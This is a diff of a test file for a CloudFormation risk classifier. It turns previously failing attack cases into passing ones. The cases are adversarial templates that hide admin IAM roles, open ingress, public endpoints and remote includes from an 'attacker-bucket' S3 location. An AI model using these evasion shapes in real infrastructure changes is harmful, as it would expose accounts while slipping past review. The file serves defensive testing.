@@ -2,8 +2,8 @@ import { classifyRisk } from '../../../src/core/risk/classify-risk.js';
 
 // Review #9 second attacker pass on the risk classifier: more shapes of the same access the first
 // pass's fixes do not read. Model output is untrusted (DESIGN §5b); a template that reads as low
-// is auto-merged and deployed on merge in hybrid and automated mode. "FAULT:" cases are
-// `it.failing`: they assert the right answer (high), which the code does not give yet.
+// is auto-merged and deployed on merge in hybrid and automated mode. "FAULT:" cases assert the
+// right answer (high); they were `it.failing` until the classifier read each kind.
 
 const TEMPLATE = 'services/orders-api/template.yaml';
 
@@ -35,7 +35,7 @@ describe('review #9b attacks: the risk classifier', () => {
   // AWS::LanguageExtensions is on the known-transform list, and it adds Fn::ForEach: a Resources
   // key `Fn::ForEach::<name>` whose value is a list is read as a resource with no Type and
   // skipped, so the IAM role (admin, `*`) it expands to at deploy time is never judged.
-  it.failing('FAULT: an IAM role made by Fn::ForEach (AWS::LanguageExtensions) is high', () => {
+  it('FAULT: an IAM role made by Fn::ForEach (AWS::LanguageExtensions) is high', () => {
     expect(
       levelOf(
         template({
@@ -68,30 +68,27 @@ describe('review #9b attacks: the risk classifier', () => {
 
   // The top-level Transform is judged, but an inline `Fn::Transform` (AWS::Include, or any macro)
   // inside a resource's Properties pulls its content from S3 / a Lambda at deploy time.
-  it.failing(
-    'FAULT: a security group whose Properties come from an inline Fn::Transform AWS::Include is high',
-    () => {
-      expect(
-        levelOf(
-          template({
-            Resources: {
-              Sg: {
-                Type: 'AWS::EC2::SecurityGroup',
-                Properties: {
-                  'Fn::Transform': {
-                    Name: 'AWS::Include',
-                    Parameters: { Location: 's3://attacker-bucket/open-ingress.yaml' },
-                  },
+  it('FAULT: a security group whose Properties come from an inline Fn::Transform AWS::Include is high', () => {
+    expect(
+      levelOf(
+        template({
+          Resources: {
+            Sg: {
+              Type: 'AWS::EC2::SecurityGroup',
+              Properties: {
+                'Fn::Transform': {
+                  Name: 'AWS::Include',
+                  Parameters: { Location: 's3://attacker-bucket/open-ingress.yaml' },
                 },
               },
             },
-          }),
-        ),
-      ).toBe('high');
-    },
-  );
+          },
+        }),
+      ),
+    ).toBe('high');
+  });
 
-  it.failing('FAULT: a resource pulled in whole by an inline Fn::Transform in Resources is high', () => {
+  it('FAULT: a resource pulled in whole by an inline Fn::Transform in Resources is high', () => {
     expect(
       levelOf(
         template({
@@ -108,7 +105,7 @@ describe('review #9b attacks: the risk classifier', () => {
   });
 
   // Ingress from a managed prefix list the template fills with 0.0.0.0/0: only CidrIp/CidrIpv6 are read.
-  it.failing('FAULT: ingress from a prefix list holding 0.0.0.0/0 is high', () => {
+  it('FAULT: ingress from a prefix list holding 0.0.0.0/0 is high', () => {
     expect(
       levelOf(
         template({
@@ -136,7 +133,7 @@ describe('review #9b attacks: the risk classifier', () => {
   });
 
   // The /8 bound is per rule: 128 rules of /8 are 0.0.0.0/1, the same split the first pass fixed.
-  it.failing('FAULT: half the IPv4 internet as 128 ingress rules of /8 is high', () => {
+  it('FAULT: half the IPv4 internet as 128 ingress rules of /8 is high', () => {
     const rules = Array.from({ length: 128 }, (_, n) => ({
       IpProtocol: 'tcp',
       FromPort: 22,
@@ -160,7 +157,7 @@ describe('review #9b attacks: the risk classifier', () => {
   // A public, unauthenticated URL on an existing function (no function, so no role, in the
   // template): AWS::Lambda::Url's AuthType NONE is not read (lambdaPermissionRisks reads
   // FunctionUrlAuthType on AWS::Lambda::Permission only) — anyone on the internet invokes it.
-  it.failing('FAULT: an AWS::Lambda::Url with AuthType NONE on an existing function is high', () => {
+  it('FAULT: an AWS::Lambda::Url with AuthType NONE on an existing function is high', () => {
     expect(
       levelOf(
         template({
@@ -181,7 +178,7 @@ describe('review #9b attacks: the risk classifier', () => {
   // (an admin role named by ARN) handed over in a nested property, or an existing instance profile,
   // gives the generated resources powers the change does not show, the same way.
   const existingAdmin = 'arn:aws:iam::123456789012:role/OrganizationAccountAccessRole';
-  it.failing.each([
+  it.each([
     [
       'an EventBridge Scheduler universal target calling IAM as an existing role (Target.RoleArn)',
       {
@@ -248,7 +245,7 @@ describe('review #9b attacks: the risk classifier', () => {
   // Exposure to the internet in other shapes than a security group or a policy: a database with a
   // public endpoint, a bucket whose ACL lets anyone read and write, and a run-command association
   // that runs a shell script on every managed instance of the account.
-  it.failing.each([
+  it.each([
     [
       'an RDS instance with PubliclyAccessible true',
       {
